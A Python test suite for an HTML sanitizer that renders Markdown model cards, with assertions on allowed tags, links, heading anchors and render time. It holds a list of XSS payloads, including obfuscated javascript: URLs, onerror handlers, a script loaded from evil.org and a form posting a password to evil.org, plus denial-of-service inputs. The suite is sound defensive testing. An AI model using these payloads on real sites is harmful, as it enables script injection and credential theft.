"""Does a card look as its author meant, and can it do nothing but be looked at?"""

from __future__ import annotations

import re
import time
from collections.abc import Callable
from html.parser import HTMLParser
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from adapterhub.content.render import MAX_CARD, render, render_text, stylesheet


class Page(HTMLParser):
    """What a browser would find in a piece of HTML."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        raise AssertionError("a comment")

    def handle_decl(self, decl: str) -> None:
        raise AssertionError("a declaration")

    def all(self, tag: str, attribute: str) -> list[str | None]:
        return [attributes[attribute] for name, attributes in self.found if name == tag and attribute in attributes]


def page(text: str, **options: Any) -> Page:
    return Page(render(text, **{"repo": "alice/m", **options}))


# Written apart from the lists in the renderer.
HARMLESS = set(
    re.split(
        " ",
        "a abbr b blockquote br caption code dd del details div dl dt em figcaption figure h1 h2 h3 h4 h5 h6 hr i img "
        "ins kbd li mark ol p pre q s samp small span strong sub summary sup table tbody td tfoot th thead tr u ul var",
    )
)
QUIET = {"title", "alt", "width", "height", "align", "colspan", "rowspan", "start", "open", "class", "rel"}


def assert_harmless(html: str) -> None:
    for tag, attributes in Page(html).found:
        assert tag in HARMLESS, tag
        for name, value in attributes.items():
            if name == "href":
                assert re.match(r"https?://[a-z0-9]|mailto:|#card-|/alice/m/blob/main/?", str(value), re.I), value
                assert ".." not in str(value) or re.match(r"https?:|mailto:|#", str(value), re.I), value
                assert attributes["rel"] == "nofollow noopener"
            elif name == "src":
                assert re.match(r"/alice/m/resolve/main/?", str(value)), value
                assert ".." not in str(value).split("/")
            elif name == "id":
                assert re.fullmatch(r"card-[\w-]+", str(value)), value
            elif name == "class":
                assert re.fullmatch(r"highlight|[a-z0-9]{1,3}( [a-z0-9]{1,3})*|", str(value)), value
            elif name == "tabindex":
                assert (tag, value) in {("pre", "0"), ("table", "0")}
            else:
                assert name in QUIET, name


ATTACKS = {
    "script": "<script>alert(1)</script>",
    "script in Markdown": "hello <script src=//evil.org/x.js></script> world",
    "broken script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "unclosed script": "<script>alert(1)//",
    "handler": "<img src=x onerror=alert(1)>",
    "handler after slash": "<img/src=x/onerror=alert(1)>",
    "handler in title": '![a](x.png "a\\" onerror=alert(1) b=\\"")',
    "handler in alt": '![" onerror="alert(1)](x.png)',
    "handler in raw title": "<img src=x title='\" onerror=alert(1) a=\"'>",
    "svg": "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "javascript": "[a](javascript:alert(1))",
    "javascript in raw HTML": "<a href='javascript:alert(1)'>a</a>",
    "javascript in capitals": "<a href='JaVaScRiPt:alert(1)'>a</a>",
    "javascript with entities": "<a href='&#106;avascript&colon;alert(1)'>a</a>",
    "javascript with tab": "<a href='java\tscript:alert(1)'>a</a>",
    "javascript with newline": "<a href='java&NewLine;script:alert(1)'>a</a>",
    "javascript after control": "<a href='\x01javascript:alert(1)'>a</a>",
    "javascript, encoded": "[a](javascript%3Aalert(1))",
    "javascript in a reference": "[a]\n\n[a]: javascript:alert(1)",
    "javascript in an autolink": "<javascript:alert(1)>",
    "vbscript": "[a](vbscript:msgbox(1))",
    "data": "[a](data:text/html;base64,PHNjcmlwdD4=) ![b](data:image/svg+xml;base64,PHN2Zz4=)",
    "file": "[a](file:///etc/passwd)",
    "blob": "<a href='blob:https://evil.org/1'>a</a>",
    "other host": "[a](//evil.org/x) ![b](//evil.org/x.png) <img src='//evil.org/x'>",
    "other host, backslashes": "<a href='/\\evil.org'>a</a> <a href='\\\\evil.org'>b</a> <img src='/\\evil.org/x'>",
    "other host, encoded": "[a](%2F%2Fevil.org) [b](/%2Fevil.org) ![c](%2f/evil.org/x)",
    "other host, tab": "<a href='/\t/evil.org'>a</a><a href='/&Tab;/evil.org'>b</a>",
    "remote image": "![a](https://evil.org/track.gif) <img src=https://evil.org/x> <img srcset='//evil.org/x 1x'>",
    "user in address": "[a](https://adapterhub.ml@evil.org/)",
    "page of the hub": "[a](/logout) [b](../../../../logout) [c](/alice/m/blob/main/../../../../logout)",
    "style": "<p style='background:url(//evil.org)'>x</p><style>body{display:none}</style><link rel=stylesheet href=x>",
    "class": "<div class='admin-panel highlight'>x</div><span class='k admin'>y</span>",
    "id": "<h1 id=csrf>x</h1><p id=login>y</p><a name=forms>z</a><h2 id='card-x y'>w</h2>",
    "form": "<form action=https://evil.org><input name=password><button formaction=//evil.org>ok</button></form>",
    "frame": "<iframe srcdoc='<script>alert(1)</script>'></iframe><object data=x></object><embed src=x>",
    "meta": "<meta http-equiv=refresh content='0;url=https://evil.org'><base href=//evil.org>",
    "media": "<video src=https://evil.org poster=//evil.org></video><audio src=x></audio><source src=x><track src=x>",
    "template": "<template><script>alert(1)</script></template><noscript><p id='</noscript><img src=x onerror=x()>'>",
    "comment": "<!--><img src=x onerror=alert(1)>-->",
    "conditional comment": "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "CDATA": "<![CDATA[<script>alert(1)</script>]]>",
    "processing instruction": "<?xml-stylesheet href='javascript:alert(1)'?>",
    "code language": '```"><script>alert(1)</script>\nx\n```\n\n``` <img onerror=alert(1)>\ny\n```',
    "code": "```python\n'</code></pre><script>alert(1)</script>'\n```\n\n    <script>alert(1)</script>\n",
    "code in HTML": "<pre><code class='language-x\" onload=alert(1)'><script>alert(1)</script></code></pre>",
    "heading": '# <img src=x onerror=alert(1)> "onclick=alert(1)\n\n# "><script>',
    "table": "| <script>alert(1)</script> | a |\n|:-:|-|\n| [x](javascript:alert(1)) | <td onclick=alert(1)> |",
    "broken image": "<img src='x' <script>alert(1)</script>",
    "image in image": "<img src='a.png' alt='<img src=x onerror=alert(1)>'>",
    "unclosed attribute": '<a href="x\n\n[b](c "onmouseover=alert(1)")',
    "NUL": "<scr\0ipt>alert(1)</scr\0ipt><img src=\0x onerror\0=alert(1)>",
}


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
def test_attacks(attack: str):
    for text in (attack, f"> {attack}", f"- {attack}", f"**{attack}**", f"<p>{attack}</p>", f"a {attack} b"):
        assert_harmless(render(text, repo="alice/m"))


def test_the_assertion_can_fail():
    for html in (
        "<script>",
        "<a href='javascript:x' rel='nofollow noopener'>",
        "<img src=//x>",
        "<p onclick=x>",
        "<p id=x>",
    ):
        with pytest.raises(AssertionError):
            assert_harmless(html)


PIECES = st.sampled_from(
    [
        "<",
        ">",
        "'",
        '"',
        "[",
        "](",
        ")",
        "!",
        "`",
        "\n",
        " ",
        "/",
        "=",
        "javascript:",
        "<script",
        "<img src=",
        "onerror=x",
    ]
    + [
        "<a href=",
        "<svg>",
        "<style>",
        "</",
        "<!--",
        "-->",
        "&#x6a;",
        "//evil.org",
        "https:",
        "x",
        "#",
        "|",
        "-",
        "\\",
        "\t",
    ]
)


@settings(max_examples=200, deadline=None)
@given(st.lists(PIECES, max_size=25).map("".join))
def test_random_attacks(text: str):
    assert_harmless(render(text, repo="alice/m"))


@pytest.mark.parametrize(
    ("text", "href"),
    [
        ("[a](docs/b.md)", "/alice/m/blob/feat%2Fx/sub/docs/b.md"),
        ("[a](./b.md#part)", "/alice/m/blob/feat%2Fx/sub/b.md#part"),
        ("[a](/b.md)", "/alice/m/blob/feat%2Fx/b.md"),
        ("[a](../../../b.md)", "/alice/m/blob/feat%2Fx/b.md"),
        ("[a](<b c é.md>)", "/alice/m/blob/feat%2Fx/sub/b%20c%20%C3%A9.md"),
        ("[a](b%23c.md)", "/alice/m/blob/feat%2Fx/sub/b%23c.md"),
        ("<a href='b.md'>a</a>", "/alice/m/blob/feat%2Fx/sub/b.md"),
        ("[a](#The-part)", "#card-the-part"),
        ("[a](https://a.org/b?c=d&e#f)", "https://a.org/b?c=d&e#f"),
        ("<https://a.org>", "https://a.org"),
        ("[a](http://a.org)", "http://a.org"),
        ("[a](mailto:a@b.org)", "mailto:a@b.org"),
    ],
)
def test_links(text: str, href: str):
    assert page(text, revision="feat/x", folder="sub").all("a", "href") == [href]


@pytest.mark.parametrize(
    ("text", "src"),
    [
        ("![a](b.png)", "/alice/m/resolve/main/b.png"),
        ("<img src='./img/b.png' alt='a' width=40>", "/alice/m/resolve/main/img/b.png"),
        ("<p align='center'><img src=b.png alt=a></p>", "/alice/m/resolve/main/b.png"),
    ],
)
def test_images(text: str, src: str):
    found = page(text)
    assert found.all("img", "src") == [src]
    assert found.all("img", "alt") == ["a"]


def test_remote_images_become_links():
    found = page("![a plot](https://a.org/p.png) <img alt='second' src='https://b.org/q.png'> ![](https://c.org/r)")
    assert found.all("img", "src") == []
    assert found.all("a", "href") == ["https://a.org/p.png", "https://b.org/q.png", "https://c.org/r"]
    assert "a plot" in found.text
    assert "second" in found.text
    assert page("[![badge](https://a.org/b.svg)](https://c.org)").all("a", "href") == ["https://c.org"]


def test_markdown():
    html = render(
        "| a | b |\n|:-|-:|\n| ~~c~~ | `d` |\n\n1. x\n2. y\n\n<details><summary>more</summary>z</details>", repo="a/b"
    )
    assert '<td align="left"><s>c</s></td>' in html
    assert "<details><summary>more</summary>z</details>" in html
    assert "www.example.org" in render("www.example.org", repo="a/b")
    assert "<a" not in render("www.example.org", repo="a/b")


def test_headings_have_anchors():
    found = page("# Über *this* `x`!\n\n## Usage\n\n## Usage\n\n### !!!\n")
    ids = [attributes["id"] for tag, attributes in found.found if tag in ("h1", "h2", "h3")]
    assert ids == ["card-über-this-x", "card-usage", "card-usage-2", "card-section"]


def test_code_is_coloured():
    html = render("```python\nimport os\n```\n\n```unknown\nimport os\n```\n\n    import os\n", repo="a/b")
    assert html.count('<div class="highlight">') == 3
    assert html.count('<span class="kn">import</span>') == 1
    assert ".highlight .kn" in stylesheet()


@pytest.mark.parametrize(
    ("name", "text", "token"),
    [
        ("adapter_config.json", '{"a": 1}', '<span class="mi">1</span>'),
        ("c.yaml", "a: b", '<span class="nt">a</span>'),
        ("d.PY", "import os", '<span class="kn">import</span>'),
        ("e", "<script>alert(1)</script>", "&lt;script&gt;"),
        ("f.md", "# Title", "# Title"),
    ],
)
def test_text_files(name: str, text: str, token: str):
    html = render_text(name, text)
    assert token in html
    assert 'id="L-1"' in html
    assert {tag for tag, _ in Page(html).found} <= {"div", "pre", "span", "code"}


def test_keys_can_scroll_what_is_wide():
    html = render("```python\nx = 1\n```\n\n| a |\n|---|\n| 1 |\n\n<pre tabindex='7'>y</pre>", repo="a/b")
    assert [attributes["tabindex"] for tag, attributes in Page(html).found if tag in ("pre", "table")] == ["0"] * 3


def test_long_cards_are_cut():
    html = render("word " * 60_000, repo="a/b")
    assert 'class="cut"' in html
    assert len(html) < MAX_CARD + 1000
    assert 'class="cut"' not in render("word " * 20_000, repo="a/b")
    usual = "A line of **text** with a [link](a.md), `code` and more words that explain what the adapter does.\n\n"
    assert 'class="cut"' not in render(usual * 500, repo="a/b")
    assert 'class="cut"' in render_text("a.txt", "x\n" * 400_000)


HOSTILE = {
    "brackets": "[" * 20_000,
    "more brackets": "[" * MAX_CARD,
    "images": "![" * (MAX_CARD // 2),
    "links": "[a](" * (MAX_CARD // 4),
    "nested links": "[" * 60_000 + "]" * 60_000,
    "emphasis": "*a_ " * (MAX_CARD // 4),
    "pairs": "*_*" * (MAX_CARD // 3),
    "strikes": "~~a" * (MAX_CARD // 3),
    "backquotes": "".join("`" * i + " " for i in range(1, 500)),
    "tags": "<" * MAX_CARD,
    "images in HTML": "<img " * (MAX_CARD // 5),
    "images in HTML, closed": "<img src=a>" * (MAX_CARD // 11),
    "comments": "<!--" * (MAX_CARD // 4),
    "entities": "&" * MAX_CARD,
    "quotations": "> " * (MAX_CARD // 2),
    "lists": "-\n" * (MAX_CARD // 2),
    "nested lists": "* * a\n" * (MAX_CARD // 6),
    "wide table": "|a" * 2000 + "\n" + "|-" * 2000 + "\n" + "b\n" * 20_000,
    "long table": "a|b\n-|-\n" + "c\n" * 60_000,
    "headings": "# a\n" * (MAX_CARD // 4),
    "short lines": "a\n" * (MAX_CARD // 2),
    "nested tags": "<div>" * (MAX_CARD // 5),
    "nested bold": "<b>" * (MAX_CARD // 3),
    "references": "".join(f"[a{i}]: b\n" for i in range(12_000)),
    "code": "```python\n" + "'\"\\\n(" * 25_000,
    "many codes": "```python\nx\n```\n" * 8_000,
    "yaml": "```yaml\n" + "a: &b [*c, {d: 'e\n" * 3_400,
    "bash": "```bash\n" + "$(`${" * 12_000,
    "spaces": " " * MAX_CARD,
    "attributes": "<img " + "alt= " * 25_000 + ">",
    "unclosed attribute": "<img src='" + "a" * 100_000,
}


@pytest.fixture(scope="module")
def usual() -> float:
    """Seconds of the processor for an ordinary card of the largest size, on this machine and now."""
    prose = ("A line of *plain* text with `code`, a [link](x.md) and words.\n\n" * 3000)[:MAX_CARD]
    return min(_seconds(lambda: render(prose, repo="alice/m")) for _ in range(3))


def _seconds(work: Callable[[], object]) -> float:
    start = time.process_time()
    work()
    return time.process_time() - start


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_cards_take_little_more_time_than_others(text: str, usual: float):
    # what grows with the square of a card takes hundreds of times as long as this
    assert min(_seconds(lambda: render(text, repo="alice/m")) for _ in range(2)) < 12 * usual
    html = render(text, repo="alice/m")
    assert_harmless(html.replace('<p class="cut">', "<p>"))


@pytest.mark.parametrize("name", ["a.json", "a.yaml", "a.py", "a.sh", "a.bib", "a.toml", "a.ini", "a.diff", "a.txt"])
def test_hostile_files_take_little_time(name: str, usual: float):
    for pattern in ("{", "'\\", "a: ", "a: \n", "$(", "[[", '"', "<<E\n", "@a{b,", "# ", "x\n"):
        for size in (60 << 10, 30 << 10):
            text = pattern * (size // len(pattern))
            assert _seconds(lambda text=text: render_text(name, text)) < 8 * usual, pattern
